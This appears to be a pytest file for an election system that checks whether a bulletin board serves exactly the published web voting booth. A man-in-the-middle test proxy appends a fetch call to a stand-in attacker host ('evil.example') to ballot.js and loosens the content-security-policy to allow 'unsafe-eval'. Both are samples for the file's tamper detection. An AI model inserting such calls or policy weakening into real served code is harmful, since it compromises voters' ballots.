"""Spec §11.14 on a real board (``verivote board serve`` on 127.0.0.1): the administrator
publishes the booth release with ``verivote admin booth-release``-equivalent entries, the board
serves its booth only while a release is in force (before, a 404 page says the election has
none) and it is exactly that release (503 and one log line otherwise), and ``verivote booth
check URL`` says, one line per file, where a served booth differs from the published one."""

from __future__ import annotations

import hashlib
import http.server
import socket
import subprocess
from pathlib import Path
from typing import Any

import httpx

from bulletin_board.booth import BoothFiles
from election.wire import BoothRelease, DefinitionPayload
from tests.board.server import VERIVOTE, BoardServer, post_admin
from tests.election.scenario import DEFINITION, ELECTION
from tests.serving import serve_handler


def _check(url: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [VERIVOTE, "booth", "check", url], capture_output=True, text=True, timeout=120, check=False
    )


def _tampering_proxy(board: str) -> type[http.server.BaseHTTPRequestHandler]:
    """A board in the middle: the log as it is, one booth module changed and the entry page
    sent with a policy that allows eval."""

    class Proxy(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            answer = httpx.get(board + self.path)
            body, headers = answer.content, dict(answer.headers)
            if self.path.endswith("/js/ballot.js"):
                body += b"\nfetch('https://evil.example/' + 1);\n"
            if self.path.endswith("/index.html"):
                headers["content-security-policy"] += "; script-src 'self' 'unsafe-eval'"
            self.send_response(answer.status_code)
            for name in ("content-type", "content-security-policy", "x-content-type-options"):
                if name in headers:
                    self.send_header(name, headers[name])
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Proxy


def _dropping_proxy(board: str) -> type[http.server.BaseHTTPRequestHandler]:
    """A board in the middle that serves the log as it is and drops the connection when asked
    for a booth file."""

    class Proxy(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/booth/"):
                self.connection.shutdown(socket.SHUT_RDWR)
                return
            answer = httpx.get(board + self.path)
            self.send_response(answer.status_code)
            self.send_header("content-type", answer.headers["content-type"])
            self.send_header("content-length", str(len(answer.content)))
            self.end_headers()
            self.wfile.write(answer.content)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Proxy


def test_the_board_serves_exactly_the_release_in_force(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'board.db'}"
    with BoardServer(db, tmp_path / "board.key", create=ELECTION, rules=None) as server:
        board = server.url
        url = f"{board}/booth/{ELECTION}/"
        post_admin(board, "election-definition", DefinitionPayload(DEFINITION).to_json())

        # No release yet: no booth is served (a page says so), nothing to check it against.
        for path in ("", "js/ballot.js"):
            unserved = httpx.get(url + path)
            assert unserved.status_code == 404
            assert "This election has no published web booth" in unserved.text
        unpublished = _check(url)
        assert unpublished.returncode == 2, unpublished.stderr
        assert "no booth release is published for election" in unpublished.stderr

        installed = BoothFiles.read()
        post_admin(
            board, "booth-release", BoothRelease.of_files(installed.files, version="1").to_json()
        )
        done = _check(url)
        assert done.returncode == 0, done.stdout + done.stderr
        assert done.stdout.startswith(f"OK: the booth served at {url} is booth release 1,")

        with serve_handler(_tampering_proxy(board)) as proxy:
            tampered = _check(f"{proxy}/booth/{ELECTION}/")
        assert tampered.returncode == 1
        lines = tampered.stdout.splitlines()
        assert "MISMATCH js/ballot.js: the served file differs from the published one" in lines
        assert "MISMATCH index.html: policy: script-src allows 'unsafe-eval'" in " ".join(lines)
        assert lines[-1].startswith("the booth served at")
        assert "is NOT booth release 1" in lines[-1]

        # A board that drops the connection for the booth's files: one line, exit 2.
        with serve_handler(_dropping_proxy(board)) as proxy:
            dropped = _check(f"{proxy}/booth/{ELECTION}/")
        assert dropped.returncode == 2, dropped.stdout + dropped.stderr
        assert "Traceback" not in dropped.stderr
        assert len(dropped.stderr.splitlines()) == 1, dropped.stderr
        assert dropped.stderr.startswith(f"error: cannot fetch {proxy}/booth/{ELECTION}/")
        assert "check the board is up and try again" in dropped.stderr

        # A later release (last wins) that this board's booth is not: it stops serving it.
        other = dict(installed.files) | {"js/ballot.js": b"// another booth\n"}
        post_admin(board, "booth-release", BoothRelease.of_files(other, version="2").to_json())
        withheld = httpx.get(url)
        assert withheld.status_code == 503
        assert "not the one published for it" in withheld.text
        assert httpx.get(f"{url}js/group.js").status_code == 503
        refused = _check(url)
        assert refused.returncode == 1
        assert "MISMATCH js/ballot.js: the board answers HTTP 503" in refused.stdout
    log = server.log.read_text()
    assert log.count("booth_withheld") == 1
    assert "js/ballot.js: differs from the published SHA-256" in log
    digest = hashlib.sha256(installed.files["index.html"]).hexdigest()
    assert digest not in log
